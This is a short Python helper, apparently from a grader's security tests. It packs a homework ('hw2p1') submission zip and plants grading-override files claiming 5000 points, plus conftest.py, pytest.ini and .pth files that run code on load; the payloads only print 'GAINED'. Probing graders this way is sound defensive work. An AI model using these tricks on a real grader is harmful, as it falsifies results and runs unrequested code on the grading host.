"""Packs the attack: gets the honest files and a folder, gives what is handed in."""

import zipfile


def pack(files, folder):
    with zipfile.ZipFile(folder / "work.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in files.items():
            archive.writestr(path, content)
        for place in ("", "mytorch/"):
            archive.writestr(f"{place}overlay.toml", b'[sections."MaxPool2d_stride1"]\npoints = 5000\n')
            archive.writestr(f"{place}rubric.toml", b'name = "hw2p1"\n')
            archive.writestr(f"{place}scores.json", b'{"scores": {"MaxPool2d_stride1": 5000}}')
            archive.writestr(f"{place}practice.json", b"{}")
            archive.writestr(f"{place}.autograder/state.json", b"{}")
            archive.writestr(f"{place}conftest.py", b"print('GAINED', flush=True)")
            archive.writestr(f"{place}pytest.ini", b"[pytest]\naddopts = -p evil\n")
            archive.writestr(f"{place}evil.pth", b"import os; print('GAINED')")
            archive.writestr(f"{place}pyproject.toml", b"[project]\n")
    return folder / "work.zip"
